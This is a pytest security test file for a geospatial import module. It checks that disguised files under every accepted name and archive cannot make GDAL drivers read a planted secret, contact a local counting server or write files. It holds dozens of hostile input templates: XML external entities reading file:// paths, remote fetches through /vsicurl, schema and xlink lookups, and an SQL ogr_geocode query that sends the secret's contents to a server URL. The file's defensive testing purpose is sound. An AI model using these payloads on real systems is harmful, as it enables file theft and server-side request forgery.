"""A file that is not what its name says: no driver of GDAL reads a file, asks a server or writes for it, under any name."""

from __future__ import annotations

import json
import os
import subprocess
import sys
import tempfile
import threading
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler, HTTPServer
from pathlib import Path

import pytest

from corridors.importing import ImportFileError, Raw, read_file
from corridors.importing.archives import DATA_FILES
from corridors.importing.detect import ENDINGS
from corridors.reading import gdal
from tests.importing_files import frame, shapefile, zipped
from tests.test_importing_formats import FORMATS, GPX, KML

ROOT = Path(__file__).parents[1]
TOKEN = "Q7-the-secret-of-this-machine"  # noqa: S105 - what a reader must not find
SHAPES = '"type":"FeatureCollection","features":[{"type":"Feature","properties":{},"geometry":{"type":"Point","coordinates":[60,35]}}]'
SVC = "<Service><Version>1.1.1</Version><ServerUrl>{server}/x?</ServerUrl><Layers>x</Layers></Service>"
WINDOW = "<DataWindow><SizeX>9</SizeX><SizeY>9</SizeY></DataWindow>"
VRT_LAYER = '<OGRVRTLayer name="secret"><SrcDataSource>{0}</SrcDataSource><SrcLayer>secret</SrcLayer>{1}</OGRVRTLayer>'
POINTS = '<GeometryType>wkbPoint</GeometryType><GeometryField encoding="PointFromColumns" x="lon" y="lat"/>'
NAMESPACES = 'xmlns:gml="http://www.opengis.net/gml" xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:xi="http://www.w3.org/2001/XInclude"'


def vrt(source: str) -> str:
    return f"<OGRVRTDataSource>{VRT_LAYER.format(source, POINTS)}</OGRVRTDataSource>"


def pipeline(command: str) -> str:
    return json.dumps({"type": "gdal_streamed_alg", "command_line": command, "relative_paths_relative_to_this_file": False})


# What each driver takes for its own and could do harm with; {secret} is a file of this machine, {server} a server, {written} a
# file to make. Some were read or asked before, most are of the same kinds.
TEMPLATES = {
    "OGR_VRT": vrt("{secret}"),
    "OGR_VRT union": f'<OGRVRTDataSource><OGRVRTUnionLayer name="u">{VRT_LAYER.format("{secret}", POINTS)}</OGRVRTUnionLayer></OGRVRTDataSource>',
    "OGR_VRT CSV": vrt("CSV:{secret}"),
    "OGR_VRT asks": vrt("/vsicurl/{server}/x.csv"),
    "OGR_VRT streams": vrt("/vsicurl_streaming/{server}/x.csv"),
    "OGR_VRT S3": vrt("/vsis3/bucket/x.csv"),
    "OGR_VRT in a zip": vrt("/vsizip//vsicurl/{server}/x.zip"),
    "OGR_VRT named gpx": '<!DOCTYPE gpx [ <!ENTITY a "> <gpx "> ]>' + vrt("{secret}"),
    "OGR_VRT after a comment": "<!-- <gpx> <kml> -->" + vrt("{secret}"),
    "OGR_VRT of an entity": '<!DOCTYPE kml [<!ENTITY s SYSTEM "file://{secret}">]>' + vrt("&s;"),
    "OGR_VRT in UTF-16": "\ufeff" + vrt("{secret}"),
    "OGR_VRT SQL": '<OGRVRTDataSource><OGRVRTLayer name="p"><SrcDataSource>CSV:{secret}</SrcDataSource><SrcSQL dialect="SQLITE">'
    "select name, ogr_geocode((select group_concat(name) from secret),'raw','QUERY_TEMPLATE={server}/q?q=%s','CACHE_FILE={written}') as raw, "
    "MakePoint(60.0,35.0,4326) as geom from secret</SrcSQL></OGRVRTLayer></OGRVRTDataSource>",
    "VRT": '<VRTDataset rasterXSize="9" rasterYSize="9"><VRTRasterBand dataType="Byte" band="1" subClass="VRTRawRasterBand">'
    '<SourceFilename relativeToVRT="0">{secret}</SourceFilename></VRTRasterBand></VRTDataset>',
    "GDALG": pipeline("gdal vector pipeline ! read {secret} --oo X_POSSIBLE_NAMES=lon --oo Y_POSSIBLE_NAMES=lat"),
    "GDALG writes": pipeline("gdal vector pipeline ! read {secret} ! write {written}"),
    "GDALG as topology": '{"x":"\\"type\\":\\"Topology\\"","type":"gdal_streamed_alg","command_line":"gdal vector pipeline ! read {secret}"}',
    "GTI": "<GDALTileIndexDataset><IndexDataset>{secret}</IndexDataset></GDALTileIndexDataset>",
    "WFS": "<OGRWFSDataSource><URL>{server}/wfs</URL></OGRWFSDataSource>",
    "CSW": "<OGRCSWDataSource><URL>{server}/csw</URL></OGRCSWDataSource>",
    "OAPIF": "<OGRWFS3DataSource><URL>{server}/api</URL></OGRWFS3DataSource>",
    "OGCAPI": "<OGCAPI><URL>{server}/api</URL></OGCAPI>",
    "WMS": f'<GDAL_WMS>{SVC.replace("<Service>", """<Service name="WMS">""")}{WINDOW}</GDAL_WMS>',
    "WMTS": "<GDAL_WMTS><GetCapabilitiesUrl>{server}/wmts</GetCapabilitiesUrl><Layer>x</Layer></GDAL_WMTS>",
    "WCS": "<WCS_GDAL><ServiceURL>{server}/wcs?</ServiceURL><Version>1.0.0</Version><CoverageName>x</CoverageName></WCS_GDAL>",
    "STACTA": '{"type":"Feature","stac_version":"1.0.0","stac_extensions":["tiled-assets"],"assets":{},"tiles:tile_matrix_sets":{},'
    '"asset_templates":{"a":{"href":"{server}/x.json"}}}',
    "STACIT": '{"stac_version":"1.0.0",' + SHAPES + ',"links":[{"rel":"next","href":"{server}/next"}]}',
    "GML": f'<gml:FeatureCollection {NAMESPACES} xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
    'xsi:schemaLocation="x {server}/x.xsd"><gml:featureMember xlink:href="{server}/f.gml#1"/></gml:FeatureCollection>',
    "GML with a file": f'<gml:FeatureCollection {NAMESPACES}><gml:featureMember xlink:href="file://{{secret}}"/></gml:FeatureCollection>',
    "ESRIJSON": '{"displayFieldName":"","geometryType":"esriGeometryPoint","exceededTransferLimit":true,"features":[],"url":"{server}/q"}',
    "GeoJSON": "{" + SHAPES + ',"crs":{"type":"link","properties":{"href":"{server}/crs","type":"ogcwkt"}}}',
    "GeoJSON of a file": "{" + SHAPES + ',"crs":{"type":"name","properties":{"name":"{secret}"}}}',
    "JSONFG": '{"conformsTo":["[ogc-json-fg-1-0.1:core]"],"coordRefSys":"{server}/crs",' + SHAPES + "}",
    "TopoJSON": '{"type":"Topology","arcs":[],"objects":{"a":{"type":"Point","coordinates":[60,35]}},'
    '"crs":{"type":"link","properties":{"href":"{server}/crs"}}}',
    "GeoJSONSeq": '{"type":"Feature","properties":{},"geometry":null,"url":"{server}/x"}\n{"type":"Feature","properties":{},"geometry":null}',
    "HTTP": "{server}/x.geojson",
    "CSV": "CSV:{secret}",
    "SQLite": "SQLITE:{secret}",
    "PostgreSQL": "PG:host=127.0.0.1 port={port} dbname=x connect_timeout=1",
    "MySQL": "MySQL:x,host=127.0.0.1,port={port}",
    "ODBC": "ODBC:DSN=x",
    "PMTiles": "PMTiles\x03{server}/x.pmtiles",
    "MVT": '{"format":"pbf","tiles":["{server}/{z}/{x}/{y}.pbf"],"json":"{\\"vector_layers\\":[]}"}',
    "Carto": "Carto:x tables=x API_KEY={server}",
    "Elasticsearch": "ES:{server}",
    "Elasticsearch XML": "<OGRElasticDataSource><URL>{server}</URL></OGRElasticDataSource>",
    "AmigoCloud": "AmigoCloud:x datasets={server}",
    "NGW": "NGW:{server}/resource/1",
    "PLSCENES": "PLScenes:api_key={server}",
    "EEDA": "EEDA:{server}",
    "ADBC": "ADBC:{secret}",
    "ADBC SQL": '{"type":"adbc","uri":"{secret}","sql":"select * from read_csv(\'{secret}\')"}',
    "GeoRSS": '<rss version="2.0"><channel><item><link>{server}/x</link></item></channel></rss>',
    "MapML": '<mapml- xmlns="http://www.w3.org/1999/xhtml"><map-head/><map-body><map-link rel="next" href="{server}/x"/></map-body></mapml->',
    "OSM": '<osm version="0.6"><node id="1" lat="35" lon="60"/><note>{server}</note></osm>',
    "GPSBabel": "GPSBabel:gpx:{secret}",
    "PDS4": '<Product_Observational xmlns="http://pds.nasa.gov/pds4/pds/v1"><File_Area_Observational><File><file_name>{secret}</file_name></File>'
    "<Table_Delimited/></File_Area_Observational></Product_Observational>",
    "PDS": 'PDS_VERSION_ID = PDS3\n^TABLE = "{secret}"\nEND\n',
    "ISIS3": 'Object = IsisCube\n Object = Core\n ^Core = "{secret}"\nEnd_Object\nEnd_Object\nEnd\n',
    "VICAR": "LBLSIZE=400             FORMAT='BYTE'  TYPE='IMAGE' SRC='{secret}'",
    "OGR_GMT": "# @VGMT1.0 @GPOINT\n# @R0/1/0/1\n# @Jp+proj=pipeline +step +proj=vgridshift +grids={server}/g.tif\n# @D{secret}\n1 2\n",
    "ENVI": "ENVI\nsamples = 9\nlines = 9\nbands = 1\nheader offset = 0\ndata type = 1\ndata file = {secret}\n",
    "EHdr": "NROWS 9\nNCOLS 9\nNBITS 8\n{secret}\n",
    "ERS": 'DatasetHeader Begin\n DataSetType = ERStorage\n DataFile = "{secret}"\nDatasetHeader End\n',
    "TIL": 'numTiles = 1;\nBEGIN_GROUP = TILE_1\nfilename = "{secret}";\nEND_GROUP = TILE_1\nEND;\n',
    "MRF": "<MRF_META><CachedSource><Source>{secret}</Source></CachedSource><Raster><Size x='9' y='9'/></Raster></MRF_META>",
    "DIMAP": "<Dimap_Document><Raster_Dimensions/><Data_Access><Data_File><DATA_FILE_PATH href='{secret}'/></Data_File></Data_Access></Dimap_Document>",
    "Zarr": '{"zarr_format":3,"node_type":"array","shape":[1],"url":"{server}"}',
    "AVCE00": "EXP  0 {secret}\nARC  2\n",
    "DXF": "  0\nSECTION\n  2\nHEADER\n  9\n$XREF\n  1\n{secret}\n  0\nENDSEC\n  0\nEOF\n",
    "MapInfo File": '!table\n!version 300\nDefinition Table\n  Type NATIVE\n  File "{secret}"\n',
    "VDV": 'mod; DD.MM.YYYY\nsrc; "{secret}"\ntbl; x\natr; a\neof; 1\n',
    "KMLSUPEROVERLAY": '<kml xmlns="http://www.opengis.net/kml/2.2"><NetworkLink><Link><href>{server}/x.kml</href></Link></NetworkLink></kml>',
    "KML asks": KML.replace("<Document>", '<Document xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="{server}/x"/>'
                            "<Style id='a'><IconStyle><Icon><href>{server}/i.png</href></Icon></IconStyle></Style><Schema schemaUrl='{server}/s'/>"),
    "KML of an entity": KML.replace("<kml", '<!DOCTYPE kml [<!ENTITY s SYSTEM "file://{secret}">]><kml').replace("North", "&s;"),
    "KML of an address": KML.replace("<kml", '<!DOCTYPE kml SYSTEM "{server}/kml.dtd"><kml'),
    "GPX of an entity": GPX.replace("<gpx", '<!DOCTYPE gpx [<!ENTITY s SYSTEM "{server}/s">]><gpx').replace("North", "&s;"),
    "GPX with a style": GPX.replace("<gpx", '<?xml-stylesheet href="{server}/x.xsl" type="text/xsl"?><gpx xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
                                    'xsi:schemaLocation="x {server}/x.xsd"'),
}  # fmt: skip


@dataclass(frozen=True)
class Outside:
    """What must not be touched: a file with a secret, a server that counts, a folder where nothing is written."""

    secret: Path
    server: str
    asked: list[str]
    folder: Path

    def filled(self, template: str) -> bytes:
        words = {"secret": str(self.secret), "server": self.server, "written": str(self.folder / "written.csv"), "port": self.server[-5:]}
        for key, value in words.items():
            template = template.replace(f"{{{key}}}", value)
        return template.encode("utf-16" if template.startswith("\ufeff") else "utf-8")


@pytest.fixture
def outside(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Outside]:
    asked: list[str] = []

    class Counting(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_error(404)

        do_HEAD = do_POST = do_GET  # noqa: N815 - as http.server calls them

        def log_message(self, *_: object) -> None:
            pass

    places = {place: tmp_path / place for place in ("secret", "temporary", "written", "home")}
    for place in places.values():
        place.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(places["temporary"]))
    monkeypatch.chdir(places["home"])
    secret = places["secret"] / "secret.csv"
    secret.write_text(f"name,lon,lat\n{TOKEN},60,35\n", encoding="utf-8")
    with HTTPServer(("127.0.0.1", 0), Counting) as server:
        thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.02})
        thread.start()
        yield Outside(secret, f"http://127.0.0.1:{server.server_port}", asked, places["written"])
        server.shutdown()
        thread.join()
    assert asked == []
    assert [path for place in ("written", "temporary", "home") for path in places[place].rglob("*")] == []
    assert list(places["secret"].iterdir()) == [secret]


def told(read: Callable[[], Raw]) -> str:
    """Return all that a reading says, as an error or as rows with notes."""
    try:
        raw = read()
    except ImportFileError as error:
        return str(error)
    return f"{raw.rows.to_csv()} {raw.notes} {raw.crs}"


def generic(driver: str) -> list[str]:
    """Return what a driver may take for its own when nothing better is known: its prefix, its root, its record."""
    bare = "".join(driver.split())
    return [f"{bare.upper()}:{{secret}}", f"<{bare}><URL>{{server}}/x</URL><File>{{secret}}</File></{bare}>",
            json.dumps({"type": bare, "url": "{server}/x", "file": "{secret}"})]  # fmt: skip


PARTS = shapefile(frame())


def doors(data: bytes) -> Iterator[tuple[str, bytes]]:
    """Return a content under every name that import accepts, alone and in every archive."""
    for ending in ENDINGS:
        yield f"x.{ending}", data
    for member in sorted(DATA_FILES):
        yield "x.zip", zipped({f"in/x{member}": data})
    yield "x.kmz", zipped({"doc.kml": data})
    for side in PARTS:
        yield "x.zip", zipped({**PARTS, side: data})


def python(script: str) -> str:
    """Return what a script prints in a process that was told nothing of GDAL."""
    environment = {"PYTHONPATH": str(ROOT), "PATH": os.defpath}
    return subprocess.run([sys.executable, "-c", script], env=environment, capture_output=True, check=True, text=True).stdout


def installed() -> list[str]:
    """Return every driver that the installed GDAL has when nothing is taken out."""
    return python("import pyogrio; print(*pyogrio.list_drivers(), sep='|')").strip().split("|")


DRIVERS = installed()


def test_every_driver_that_is_installed_is_kept_or_denied() -> None:
    denied = " ".join(gdal.DENIED.split()).split(", ")
    assert set(DRIVERS) <= {*gdal.KEPT, *denied}
    assert not gdal.KEPT & set(denied)
    assert set(gdal.gdal().list_drivers()) == gdal.KEPT


@pytest.mark.parametrize("case", TEMPLATES)
def test_no_template_is_obeyed_under_any_name(case: str, outside: Outside) -> None:
    for name, data in doors(outside.filled(TEMPLATES[case])):
        assert TOKEN not in told(lambda name=name, data=data: read_file(data, name)), name  # type: ignore[misc]


def test_no_driver_is_reached_by_its_name(outside: Outside) -> None:
    for number, driver in enumerate(DRIVERS):
        for turn, forms in enumerate(zip(*(doors(outside.filled(template)) for template in generic(driver)), strict=True)):
            name, data = forms[(turn + number) % len(forms)]
            assert TOKEN not in told(lambda name=name, data=data: read_file(data, name)), (driver, name)  # type: ignore[misc]


@pytest.mark.parametrize("case", TEMPLATES)
def test_what_is_left_of_gdal_takes_no_template(case: str, outside: Outside) -> None:
    """Were our own look deceived, GDAL would still find nobody to obey."""
    if case.startswith("KML"):
        pytest.skip("a format that GDAL keeps, to write it, with odd things in it")
    with tempfile.TemporaryDirectory() as folder:
        for ending in (".gpx", ".kml", ".shp", ".topojson", ".gpkg", ".fgb"):
            path = Path(folder) / f"file{ending}"
            path.write_bytes(outside.filled(TEMPLATES[case]))
            with pytest.raises(gdal.ERRORS):
                gdal.gdal().read_dataframe(path)


def test_nothing_is_read_where_gdal_was_started_before() -> None:
    script = "import pyogrio\nfrom corridors.importing import read_file\nfrom tests.test_importing_disguised import kept\n"
    said = python(f"{script}for name, data in kept():\n try: read_file(data, name); print('READ')\n except ValueError as e: print(e)")
    assert "READ" not in said
    assert len(said.splitlines()) == len(kept())
    assert all("drivers that this program does not use" in line and "; allowed: " in line for line in said.splitlines())


def kept() -> list[tuple[str, bytes]]:
    """Return small files that GDAL reads, with their names."""
    return [(name, data) for data, name in (FORMATS[form]() for form in ("FlatGeobuf", "Shapefile"))]


def test_an_export_before_an_import_starts_the_same_gdal() -> None:
    script = "import corridors\nimport geopandas\ncorridors.export('kind=railway', format='gpkg')\nimport pyogrio\nprint(*pyogrio.list_drivers(), sep='|')"
    assert set(python(script).strip().split("|")) == gdal.KEPT


@pytest.mark.parametrize(
    "start", ["<!DOCTYPE gpx>", '<!DOCTYPE gpx [<!ENTITY a "b">]>', '<?xml version="1.0"?>\n<!-- x --><!DOCTYPE gpx SYSTEM "x">']
)
def test_a_document_type_is_refused_in_words(start: str) -> None:
    data = start + GPX[GPX.index("<gpx") :]
    with pytest.raises(ImportFileError, match=r"found XML with a document type .* allowed: KML or GPX without one"):
        read_file(data.encode(), "x.gpx")


@pytest.mark.parametrize("text", ["<", "<?xml version='1.0'?>", "<kml <", "<1>", "<a:kml x>", "< kml>"])
def test_xml_that_is_broken_before_its_root(text: str) -> None:
    with pytest.raises(ImportFileError, match="found broken XML"):
        read_file(text.encode(), "x.kml")


def test_a_name_within_a_zip_is_kept_to() -> None:
    with pytest.raises(ImportFileError, match="found CSV in a file whose name says GPX"):
        read_file(zipped({"a.gpx": b"name,lon,lat\na,58,38\n"}), "x.zip")
